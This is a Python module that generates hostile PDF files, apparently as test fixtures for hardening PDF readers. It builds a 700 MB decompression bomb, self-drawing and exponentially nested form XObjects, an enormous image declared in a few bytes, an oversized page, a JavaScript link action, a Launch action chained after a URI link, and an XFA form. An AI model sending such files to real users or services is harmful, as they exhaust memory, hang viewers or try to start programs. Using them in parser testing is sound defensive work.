"""PDF files that hurt whoever opens them: streams that swell, forms that draw each other, sizes that nothing has."""

from __future__ import annotations

import zlib

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def built(*objects: bytes) -> bytes:
    """Return a PDF of these objects, numbered from 1, the first its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
        % (
            count,
            table,
            count,
            len(out),
        )
    )


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(content), content)


def swelling(unit: bytes, megabytes: int) -> bytes:
    """Return a deflated stream that swells to so many megabytes of `unit`."""
    packer, block = zlib.compressobj(9), unit * (1_000_000 // len(unit))
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def page(rest: bytes = b"", box: bytes = b"0 0 595 842") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, rest)


def content_bomb(megabytes: int = 700) -> bytes:
    """Return a page whose drawing swells to so many megabytes."""
    packed = swelling(b"0 0 m 9 9 l S\n", megabytes)
    return built(CATALOGUE, PAGES, page(), stream(packed, b"/Filter/FlateDecode"))


def drawing_itself() -> bytes:
    """Return a page with a form that draws itself."""
    form = stream(b"/F Do " * 4, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 6 0 R")
    used = page(b"/Resources 6 0 R")
    return built(CATALOGUE, PAGES, used, stream(b"/F Do"), form, b"<</XObject<</F 5 0 R>>>>")


def drawing_each_other(depth: int = 12) -> bytes:
    """Return a page with forms each of which draws the next ten times."""
    used = page(b"/Resources<</XObject<</F 5 0 R>>>>")
    plain = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
    forms = [
        stream(b"/F Do " * 10, b"%s/Resources<</XObject<</F %d 0 R>>>>" % (plain, at + 6))
        for at in range(depth)
    ]
    return built(CATALOGUE, PAGES, used, stream(b"/F Do"), *forms, stream(b"0 0 m 500 500 l S", plain))


def huge_picture(side: int = 60_000) -> bytes:
    """Return a page with a picture of so many pixels a side, all of them black, in few bytes."""
    used = page(b"/Resources<</XObject<</I 5 0 R>>>>")
    declared = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray"
        b"/Filter/FlateDecode" % (side, side)
    )
    picture = stream(swelling(b"\0" * 16, 400), declared)
    return built(CATALOGUE, PAGES, used, stream(b"595 0 0 842 0 0 cm /I Do"), picture)


def of_a_kilometre() -> bytes:
    """Return a page a kilometre wide."""
    return built(CATALOGUE, PAGES, page(box=b"0 0 2834646 2834646"), stream(b"0 0 m 9 9 l S"))


def running_on_a_page() -> bytes:
    """Return a page with a button that runs a script."""
    button = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(app.alert(1))>>>>]"
    return built(CATALOGUE, PAGES, page(button), stream(b"0 0 m 9 9 l S"))


def running_after() -> bytes:
    """Return a page whose link goes somewhere, and then starts a program."""
    link = (
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(x)/Next[<</S/Launch/F(a.exe)>>]>>>>]"
    )
    return built(CATALOGUE, PAGES, page(link), stream(b"0 0 m 9 9 l S"))


def with_a_form_of_programs() -> bytes:
    """Return a file with an XFA form."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA(x)>>>>"
    return built(catalogue, PAGES, page(), stream(b"0 0 m 9 9 l S"))
